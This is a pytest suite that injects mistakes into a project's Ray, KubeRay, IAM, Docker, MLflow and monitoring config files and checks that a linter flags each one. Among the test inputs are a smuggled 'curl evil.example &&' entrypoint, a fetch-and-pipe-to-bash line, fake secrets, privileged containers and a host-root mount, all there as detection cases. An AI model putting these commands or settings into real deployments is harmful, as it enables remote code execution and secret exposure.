"""The files of cluster/ have no problems, and each of ten mistakes in each of them is found."""

from pathlib import Path

import pytest

from cluster.checks.files import FILES, problems_of
from cluster.checks.images import linter

CLUSTER = Path(__file__).resolve().parents[3] / "cluster"

LAUNCHER = [
    ("max_workers: 12", "max_worker: 12", "max_worker"),
    ('{"CPU": 4, "GPU": 1}', '{"CPU": 4, "GPU": 0.5}', "0.5 is not of type 'integer'"),
    ("idle_timeout_minutes: 10", "idle_timeout_minutes: 600", "idle_timeout_minutes"),
    ('resources: {"CPU": 0, ', 'resources: {"CPU": 4, ', "or the head trains"),
    ('"gkm_most_GPU": 1', '"gkm_most_GPU": 9', "gkm_most_GPU must be 1"),
    ("max_workers: 8", "max_workers: 80", "max_workers: must be 84"),
    ("RAY_AUTH_MODE=token ray start --head", "ray start --head", "without RAY_AUTH_MODE=token"),
    ("--dashboard-host=127.0.0.1", "--dashboard-host=0.0.0.0", "--dashboard-host=127.0.0.1"),
    ("mlflow server --host 127.0.0.1", "mlflow server --host 0.0.0.0", "listens on all addresses"),
    ("ray:2.60.0-py311-gpu", "ray:latest-gpu", "docker.worker_image"),
    ("--shm-size=4g", "--shm-size=1g", "over three quarters of --shm-size"),
    ("min_workers: 0", "min_workers: 3", "min_workers must be 0"),
    ("pip install --no-compile -c /home/ray/gkm/constraints.txt -e", "pip install -e", "not at the versions"),
    (" --object-store-memory=2147483648", "", "without --object-store-memory"),
    ('[".git", ".venv", "runs", ', '["runs", ', "rsync_exclude: without .git, .venv"),
    ("head_node_type: head", "head_node_type: boss", "Ray refuses it"),
    ("  - ray stop", "  - ray stop\n - ", "is not YAML"),
]
AWS = [
    ("InstanceType: m5.xlarge", "InstanceTyp: m5.xlarge", 'Unknown parameter in input: "InstanceTyp"'),
    ("VolumeSize: 100", 'VolumeSize: "100"', "Invalid type for parameter BlockDeviceMappings[0].Ebs.VolumeSize"),
    ("InstanceType: g5.xlarge", "InstanceType: g5.tiny", "g5.tiny is none of those that Amazon knows"),
    ("InstanceType: g5.xlarge", "InstanceType: g5.12xlarge", "g5.12xlarge has 48 CPU and 4 GPU"),
    ("MarketType: spot", "MarketType: cheap", "cheap is none of those"),
    ("HttpTokens: required", "HttpTokens: optional", "HttpTokens: must be required"),
    ("Encrypted: true", "Encrypted: false", "encrypted and deleted with its node"),
    ("VolumeSize: 100", "VolumeSize: 30", "less than 100 GB"),
    ("Name: gkm-worker", "Nam: gkm-worker", "IamInstanceProfile"),
    ("    priority: 1", "    priority: 0", "spot nodes must come before"),
    ("cache_stopped_nodes: false", "cache_stopped_nodes: true", "cache_stopped_nodes"),
    ("ssh_user: ubuntu", "ssh_user: AKIAABCDEFGHIJKLMNOP", "looks like a secret"),
]
HALF_A_GPU = '    limits: {cpu: "3", memory: 12Gi, nvidia.com/gpu: 0.5}'
PODS = [
    ("apiVersion: ray.io/v1\n", "apiVersion: ray.io/v1alpha1\n", "apiVersion ray.io/v1alpha1 has no kind"),
    ("rayVersion: 2.60.0", "rayVersion: 2.9.0", "rayVersion: must be"),
    ("rayStartParams:", "rayStartParam:", "'rayStartParam' was unexpected"),
    ('num-cpus: "0"', 'num-cpus: "2"', "or the head trains"),
    ('num-cpus: "0"', "num-cpus: 0", "0 is not of type 'string'"),
    ("mode: token", "mode: disabled", "authOptions.mode: must be token"),
    ("serviceType: ClusterIP", "serviceType: LoadBalancer", "must be ClusterIP"),
    ("    limits: {cpu: \"3\", memory: 12Gi, nvidia.com/gpu: 1}", HALF_A_GPU, "must be a whole number"),
    ("limits: {cpu: \"3\", memory: 12Gi, ", "limits: {cpu: \"3\", ", "resources.limits.memory: is missing"),
    ("allowPrivilegeEscalation: false", "privileged: true", "no privileged"),
    ("drop: [ALL]", "add: [SYS_ADMIN]", "must drop ALL and add none"),
    ("runAsUser: 1000", "runAsUser: 0", "runAsUser that is not 0"),
    ("medium: Memory, sizeLimit: 4Gi", "medium: Memory", "without sizeLimit"),
    ("medium: Memory, sizeLimit: 4Gi", "sizeLimit: 4Gi", "/dev/shm: must be an emptyDir in memory"),
    ('object-store-memory: "2147483648"', 'object-store-memory: "9147483648"', "three quarters of /dev/shm"),
    ("gkm:0.1.0", "gkm:latest", "has no version"),
    ("operator: NotIn, values: [SPOT]", "operator: In, values: [SPOT]", "keep it off spot nodes"),
    ("requests: {cpu: \"3\"", "requests: {cpu: \"30\"", "is above its limit"),
    ("memory: 12Gi, nvidia", "memory: 12GB, nvidia", "12GB is no quantity"),
]  # fmt: skip
CLUSTER_FILE = [
    ("automountServiceAccountToken: false", "automountServiceAccountToken: true", "must be false"),
    ("persistentVolumeClaim:\n              claimName: gkm-workspace", "hostPath: {path: /}", "a folder of the node"),
    ("idleTimeoutSeconds: 600", "idleTimeoutSeconds: 60000", "must be 60 to 1800"),
    ("enableInTreeAutoscaling: true", "enableInTreeAutoscaling: 1", "1 is not of type 'boolean'"),
    ("version: v2", "version: v3", "'v3' is not one of"),
    ("restartPolicy: Never", "restartPolicy: Always", "restartPolicy: must be Never"),
    ("maxReplicas: 8", "maxReplicas: 16", "gkm_most_GPU must be 16"),
    ("resources: '\"{", "resources: '{", "must be JSON within a text of JSON"),
    ("minReplicas: 0", "minReplicas: 2", "replicas and minReplicas must be 0"),
    ("- --host=127.0.0.1", "- --host=0.0.0.0", "it asks for no password"),
    ("ReadWriteMany", "ReadWriteMany]\n  accessMode: [x", "accessMode"),
    ("{name: scratch, mountPath: /tmp}", "{name: scratch, mountPath: /scratch}", "/tmp: must be a volume"),
]
JOBS = [
    ("apiVersion: ray.io/v1\n", "apiVersion: ray.io/v1beta1\n", "has no kind RayJob"),
    ("entrypoint: gkm prepare", "entrypoints: gkm prepare", "entrypoint"),
    ("entrypoint: gkm prepare", "entrypoint: gkm prepar", "must be commands of gkm"),
    ("entrypoint: gkm prepare", "entrypoint: curl evil.example && gkm prepare", "must be commands of gkm"),
    ("backoffLimit: 0", "backoffLimit: 3", "backoffLimit: must be 0"),
    ("backoffLimit: 0", "backoffLimit: 0.5", "0.5 is not of type 'integer'"),
    ("activeDeadlineSeconds: 86400", "activeDeadlineSeconds: 0", "less than the minimum"),
    ("  activeDeadlineSeconds: 86400 # a job that hangs ends after a day\n", "", "activeDeadlineSeconds: is missing"),
    ("submissionMode: K8sJobMode", "submissionMode: Kubernetes", "is not one of"),
    ("  clusterSelector: {ray.io/cluster: gkm}\n", "", "one of clusterSelector and rayClusterSpec"),
    ("{ray.io/cluster: gkm}", "{ray.io/clusters: gkm}", "must name ray.io/cluster"),
    ("backoffLimit: 0\n", "backoffLimit: 0\n  shutdownAfterJobFinishes: true\n", "KubeRay refuses it"),
    ("  generateName: gkm-prepare-\n", "", "metadata.name: is missing"),
]
KUEUE = [
    ("kueue.x-k8s.io/v1beta2", "kueue.x-k8s.io/v1beta1", "has no kind ResourceFlavor"),
    ("nvidia.com/gpu, nominalQuota: 8", "nvidia.com/gpu, nominalQuota: 1", "it would wait for ever"),
    ("clusterQueue: gkm", "clusterQueue: other", "there is no ClusterQueue other"),
    ("- name: gkm\n          resources", "- name: spot\n          resources", "there is no ResourceFlavor spot"),
    ("coveredResources: [cpu, ", "coveredResources: [", "must be the same, in the same order"),
    ("kueue.x-k8s.io/queue-name: gkm", "kueue.x-k8s.io/queue: gkm", "Kueue does not look at it"),
    ("queue-name: gkm", "queue-name: other", "no LocalQueue of this file"),
    ("minReplicas: 2", "minReplicas: 0", "must be the same for a gang"),
    ("shutdownAfterJobFinishes: true", "shutdownAfterJobFinishes: false", "its pods stay"),
    ("BestEffortFIFO", "Fair", "is not one of"),
]
VALUES = [
    ("fullnameOverride: gkm", "fullnameOverride: other", "which jobs ask for"),
    ("type: ClusterIP", "type: LoadBalancer", "service.type"),
    ("worker: {disabled: true}", "worker: {disabled: false}", "worker: must be disabled"),
    ("tag: 0.1.0", "tag: latest", "image: differs"),
    ("    - {name: RAY_AUTH_MODE, value: token}\n", "", "must have RAY_AUTH_MODE: token"),
    ("secretKeyRef: {name: gkm, key: auth_token}", "secretKeyRef: {name: gkm}", "RAY_AUTH_TOKEN by secretKeyRef"),
    ("maxReplicas: 8", "maxReplicas: 80", "gpu.maxReplicas: differs"),
    ("rayStartParams:", "rayStartParam:", "rayStartParam: is read by no template"),
    ("drop: [ALL]", "drop: []", "securityContext: differs"),
    ("runAsNonRoot: true", "runAsNonRoot: false", "podSecurityContext: differs"),
    ("nvidia.com/gpu: 1}", "nvidia.com/gpu: 0.5}", "resources: differs"),
    ("idleTimeoutSeconds: 600", "idleTimeoutSeconds: 1", "autoscalerOptions: differs"),
]
MLFLOW = [
    ("apiVersion: apps/v1", "apiVersion: apps/v1beta1", "apiVersion apps/v1beta1 has no kind"),
    ("- --app-name=basic-auth\n", "- --serve-artifacts\n", "everybody may read and delete"),
    ("--allowed-hosts=mlflow.example.org,", "--allowed-hosts=*,", "must name the hosts"),
    ("valueFrom: {secretKeyRef: {name: gkm-mlflow, key: POSTGRES_PASSWORD}}", "value: secret", "comes by secretKeyRef"),
    ("image: postgres:17.6", "image: postgres", "has no version"),
    ("allowPrivilegeEscalation: false", "privileged: true", "no privileged"),
    ("limits: {cpu: \"2\", memory: 2Gi}", "limits: {cpu: \"2\"}", "resources.limits.memory: is missing"),
    ("replicas: 1", "replicas: 1.5", "1.5 is not of type"),
    ("type: ClusterIP", "type: NodePort", "opens it to the outside"),
    ("containerPort: 5432", "containerPort: postgres", "is not of type"),
    ("    - hosts: [mlflow.example.org]\n      secretName: gkm-mlflow-tls\n", "    []\n", "travel in the open"),
    ("  ingress:\n    - from:\n", "  ingress:\n    - fron:\n", "'fron' was unexpected"),
    ("runAsNonRoot: true", "runAsNonRoot: false", "must have runAsNonRoot: true"),
    ("name: auth, mountPath", "name: authentication, mountPath", "there is no volume authentication"),
]  # fmt: skip
UNIT = [
    ("User=gkm-mlflow", "User=root", "not root"),
    ("EnvironmentFile=/etc/gkm/mlflow.env\n", "", "EnvironmentFile: is missing"),
    ("--app-name=basic-auth ", "", "everybody may read and delete"),
    ("--host=127.0.0.1", "--host=0.0.0.0", "must listen on 127.0.0.1"),
    ("--allowed-hosts=mlflow.example.org,", "--allowed-hosts=*,", "must name the hosts"),
    ("NoNewPrivileges=true", "NoNewPrivileges=false", "Service.NoNewPrivileges: must be true"),
    ("ProtectSystem=strict", "ProtectSystm=strict", "ProtectSystm is not known"),
    ("[Service]", "[Servic]", "systemd has no section Servic"),
    ("ExecStart=/opt/gkm/.venv/bin/mlflow", "ExecStart=mlflow", "by its whole path"),
    ("MLFLOW_SERVER_ENABLE_JOB", "MLFLOW_AUTH_ADMIN_PASSWORD=x MLFLOW_JOB", "can be read by all"),
    ("WantedBy=multi-user.target", "WantedBy=multiuser.target", "does not start with the machine"),
    ("MemoryMax=4G\n", "", "MemoryMax: is missing"),
]
TRUST = [
    ("2012-10-17", "2008-10-17", "Version"),
    ("Allow", "Alow", "Effect"),
    ("ec2.amazonaws.com", "lambda.amazonaws.com", "Principal"),
    ('{"Service": "ec2.amazonaws.com"}', '"*"', "Principal"),
    ("sts:AssumeRole", "sts:*", "Action"),
    ('"Action"', '"Actions"', "Actions: is not for here"),
    ('"Statement"', '"Statements"', "is no policy of one statement"),
    ('"Effect": "Allow", ', "", "Effect"),
    ("}\n  ]", "},\n    {}\n  ]", "is no policy of one statement"),
    ("]\n}", "]", "is no policy of one statement"),
]
POLICY = [
    ('"Version": "2012-10-17"', '"Version": "2008-10-17"', "none that knows conditions"),
    ('"Version"', '"Versions"', "must have Version and Statement"),
    ('"Effect": "Allow"', '"Effect": "allow"', "neither Allow nor Deny"),
    ('"Resource"', '"Resources"', "Resources: is not for here"),
    ('"Action"', '"NotAction"', "NotAction: is not for here"),
    ('"Effect": "Allow",', '"Effect": "Allow", "Principal": "*",', "Principal: is not for here"),
    ("arn:aws:s3:::", "s3://", "is no arn:"),
    ("arn:aws:", "arn:aws-", "is no arn:"),
    ("]\n}", "]", "is not JSON"),
]
HEAD = [
    ("ec2:RunInstances", "ec2:StartMachines", "Amazon has no ec2:StartMachines"),
    ("ec2:RunInstances", "ec2:*", "more than is needed; name the calls"),
    ("role/gkm-worker", "role/*", "roles of this project alone"),
    ('"Condition": {"StringEquals": {"ec2:Res', '"Conditions": {"StringEquals": {"ec2:Res', "machines of others"),
    ('"arn:aws:ec2:us-west-2:111122223333:instance/*"', '"*"', "* is more than is needed"),
]  # fmt: skip
BUCKETS = [
    ("s3:GetObject", "s3:*", "more than is needed"),
    ("s3:PutObject", "s3:WriteObject", "Amazon has no s3:WriteObject"),
]
BUCKET = [
    ('"Version": "2012-10-17"', '"Version": "2008-10-17"', "none that knows conditions"),
    ('"Version"', '"Versions"', "must have Version and Statement"),
    ('"Effect": "Deny"', '"Effect": "Allow"', "a bucket's policy refuses"),
    ('"Effect": "Deny"', '"Effect": "deny"', "neither Allow nor Deny"),
    ("aws:SecureTransport", "aws:SecureTransports", "requests without TLS"),
    ('"false"', '"true"', "requests without TLS"),
    ('"Principal": "*",\n', "", "Principal: is missing"),
    ('"Resource"', '"Resources"', "Resources: is not for here"),
    ("arn:aws:s3:::", "s3://", "is no arn:"),
    ("]\n}", "]", "is not JSON"),
]
DOCKERFILE = [
    ("python:3.11.9-slim-bookworm", "python:3-slim", "to the last digit"),
    ("USER 1000", "USER root", "USER: must be 1000"),
    ("USER 1000\n", "", "USER: must be 1000"),
    ("USER 1000\n", "USER 1000\nRUN id\n", "RUN: after USER"),
    ("pip install --no-cache-dir -c constraints.txt --no-deps -e .", "pip install -e .", "not at the versions"),
    ("COPY gkm /gkm", "COPY gkmm /gkm", "COPY gkmm: is not there"),
    ("COPY gkm /gkm", "COPY tests /gkm", ".dockerignore keeps it out"),
    ("COPY gkm /gkm", "ADD gkm /gkm", "ADD: fetches"),
    ("AS cpu\n", "AS processor\n", "has no target cpu"),
    ('RUN test "${#GIT_COMMIT}" -eq 40\n', "", "does not refuse a build without a commit"),
    ("ENV GKM_GIT_COMMIT=$GIT_COMMIT\n", "", "nothing says what code ran"),
    ('HEALTHCHECK --interval=30s --timeout=20s --start-period=60s CMD ["ray", "health-check"]\n', "", "HEALTHCHECK"),
]
SHELL = [
    ("#!/usr/bin/env bash", "#!/bin/sh", "does not begin with"),
    ("set -euo pipefail", "set -e", "would go on after a failure"),
    ("set -euo pipefail", "set -euo pipefail\nif true; then", "syntax error"),
    ("set -euo pipefail", "set -euo pipefail\ncurl https://example.org/x | bash", "runs what it fetched"),
    ("set -euo pipefail", "set -euo pipefail\npkill ray", "by their name"),
    ("set -euo pipefail", "set -euo pipefail\nmlflow server --host=0.0.0.0", "listens on all addresses"),
    ("set -euo pipefail", "set -euo pipefail\nKEY=AKIAABCDEFGHIJKLMNOP", "looks like a secret"),
    ("set -euo pipefail", "set -euo pipefail\nURI=postgresql://gkm:hunter2@db/mlflow", "looks like a secret"),
    ("set -euo pipefail", "set -euo pipefail\nKEY='-----BEGIN RSA PRIVATE KEY-----'", "looks like a secret"),
]
LINTED = [("set -euo pipefail", "set -euo pipefail\nrm -r $1", "SC2086")]
LOCAL = [
    ("--node-ip-address=127.0.0.1", "--node-ip-address=0.0.0.0", "listens on all addresses"),
    ("RAY_AUTH_MODE=token", "RAY_AUTH_MODE=disabled", "without RAY_AUTH_MODE=token"),
]
PROMETHEUS = [
    ("scrape_configs:", "scrape_config:", "scrape_config: is not known"),
    ("global:", "globals:", "globals: is not known"),
    ("scrape_interval: 15s", "scrape_interval: 15", "is no time"),
    ("scrape_interval: 15s", "interval: 15s", "global.interval: is not known"),
    ("job_name: ray", "name: ray", "job_name: is missing"),
    ("file_sd_configs:", "file_sd_config:", "file_sd_config: is not known"),
    ("- files: ", "- file: ", "the list that Ray keeps"),
    ("/tmp/ray/prom_metrics", "/tmp/ray/metrics", "the list that Ray keeps"),
    ("job_name: ray", "job_name: ray\n    basic_auth: {password: x}", "basic_auth: is not known"),
    ("  - job_name: ray", "  - job_name: ray\n  - job_name: ray", "is there twice"),
    ("scrape_interval: 15s", "scrape_interval: 15s\n }", "is not YAML"),
]
DASHBOARD = [
    ("ray_node_gpus_available", "ray_node_gpu_available", "Ray has no ray_node_gpu_available"),
    ("sum(ray_node_gpus", "sum((ray_node_gpus", "brackets that do not match"),
    ("$gpu_node_price", "$gpu_price", "there is no variable gpu_price"),
    ("${datasource}", "${prometheus}", "there is no variable prometheus"),
    ('"id": 2', '"id": 1', "an id is there twice"),
    ('"x": 12', '"x": 0', "lies on"),
    ('"x": 12', '"x": 20', "within 24 columns"),
    ('"unit": "short"', '"unit": "pieces"', "pieces is none of"),
    ('"type": "timeseries"', '"type": "chart"', "chart is none"),
    ('"targets": [', '"target": [', "shows nothing"),
    ('"title": "gkm"', '"titel": "gkm"', "without title"),
    ('"panels": [', '"panels": [[', "is not JSON"),
]
MISTAKES = {
    "aws-g5-spot.yaml": LAUNCHER + AWS,
    "aws-g5-12xlarge-spot.yaml": [
        ("cluster_name: gkm-large", "cluster_name: [gkm]", "Ray refuses it"),
        ("max_workers: 5", "max_workers: 50", "max_workers: must be 5"),
        ('{"CPU": 48, "GPU": 4}', '{"CPU": 48, "GPU": 8}', "g5.12xlarge has 48 CPU and 4 GPU"),
        ("--shm-size=32g", "--shm-size=8g", "over three quarters of --shm-size"),
        *AWS[:2], *AWS[4:], *LAUNCHER[2:4], *LAUNCHER[6:9],
    ],
    "gcp-l4-spot.yaml": [
        LAUNCHER[0], *LAUNCHER[2:],
        ('{"CPU": 8, "GPU": 1}', '{"CPU": 8, "GPU": 0.5}', "0.5 is not of type 'integer'"),
        ("machineType: g2-standard-8", "machineTyp: g2-standard-8", "machineTyp: is not known"),
        ("machineType: g2-standard-8", "machineType: g5.xlarge", "is no machine type"),
        ("autoDelete: true", "autoDelete: false", "disks outlive their node"),
        ("diskSizeGb: 100", "diskSizeGb: 10.5", "diskSizeGb must be a whole number"),
        ("- preemptible: true", "- preemptible: false", "must be preemptible"),
        ("e2-standard-4\n", "e2-standard-4\n      scheduling: [{preemptible: true}]\n", "the head holds the driver"),
    ],
    "lan-hosts.yaml": [
        ("head_ip: 192.168.10.1", "head_ip: 8.8.8.8", "is a public address"),
        ("    - 192.168.10.12", "    - 192.168.10.11", "is listed twice"),
        ("    - 192.168.10.12", "    - 192.168.10.1222", "neither an address nor"),
        ("    - 192.168.10.12", "    - bad_host!", "neither an address nor"),
        ("type: local", "type: locale", "locale"),
        ("worker_ips:", "workers_ips:", "Ray refuses it"),
        ("idle_timeout_minutes: 30", "idle_timeout_minutes: soon", "Ray refuses it"),
        ('"/home/ray/.ray": "~/.ray"', '"/home/ray/.rays": "~/.ray"', "where the token is"),
        ("--shm-size=8g", "--shm-size=2g", "over three quarters of --shm-size"),
        *LAUNCHER[6:10], *LAUNCHER[12:15],
    ],
    "kuberay-gpu-cluster.yaml": PODS + CLUSTER_FILE,
    "kuberay-jobs.yaml": JOBS,
    "kuberay-kueue.yaml": KUEUE + PODS,
    "kuberay-values.yaml": VALUES,
    "mlflow-team.yaml": MLFLOW,
    "mlflow.service": UNIT,
    "iam/assume-by-ec2.json": TRUST,
    "iam/head.json": [mistake for mistake in POLICY if "s3" not in mistake[0]] + HEAD,
    "iam/worker.json": POLICY + BUCKETS,
    "iam/mlflow.json": POLICY + BUCKETS,
    "iam/bucket.json": BUCKET,
    "prometheus.yml": PROMETHEUS,
    "grafana-dashboard.json": DASHBOARD,
    "Dockerfile": DOCKERFILE,
    "local.sh": SHELL + LOCAL,
    "secrets.sh": [*SHELL, ("(id -un)", "(id -un", "matching")],
}  # fmt: skip
"""File -> (what stands there, the mistake in its place, what is said of it)."""
CASES = [(name, *mistake) for name, mistakes in MISTAKES.items() for mistake in mistakes]


@pytest.mark.parametrize("name", FILES)
def test_a_shipped_file_has_no_problem(name):
    assert problems_of(name, (CLUSTER / name).read_text()) == []


def test_every_file_is_checked_and_broken_in_ten_ways():
    others = {"README.md", "prices.json"}
    shipped = {str(path.relative_to(CLUSTER)) for path in CLUSTER.rglob("*") if path.is_file()}
    shipped = {path for path in shipped if not path.startswith(("checks/", "stack/"))}
    assert set(FILES) == set(MISTAKES) == shipped - others
    assert [name for name, mistakes in MISTAKES.items() if len(mistakes) < 10] == []


@pytest.mark.parametrize(("name", "right", "wrong", "said"), CASES)
def test_a_mistake_is_found_by_the_name_of_its_file(name, right, wrong, said):
    text = (CLUSTER / name).read_text()
    assert right in text
    found = problems_of(name, text.replace(right, wrong, 1))
    assert any(said in problem for problem in found), found
    assert all(problem.startswith(f"{name}: ") for problem in found)


@pytest.mark.skipif(linter("shellcheck") is None, reason="shellcheck is not installed")
@pytest.mark.parametrize(("right", "wrong", "said"), LINTED)
def test_a_shell_mistake_is_found_by_its_linter(right, wrong, said):
    text = (CLUSTER / "local.sh").read_text().replace(right, wrong, 1)
    assert any(said in problem for problem in problems_of("local.sh", text))


@pytest.mark.skipif(linter("hadolint") is None, reason="hadolint is not installed")
def test_a_mistake_in_the_image_is_found_by_its_linter():
    text = (CLUSTER / "Dockerfile").read_text().replace("WORKDIR /home/ray/gkm", "WORKDIR gkm")
    assert any("DL3000" in problem for problem in problems_of("Dockerfile", text))
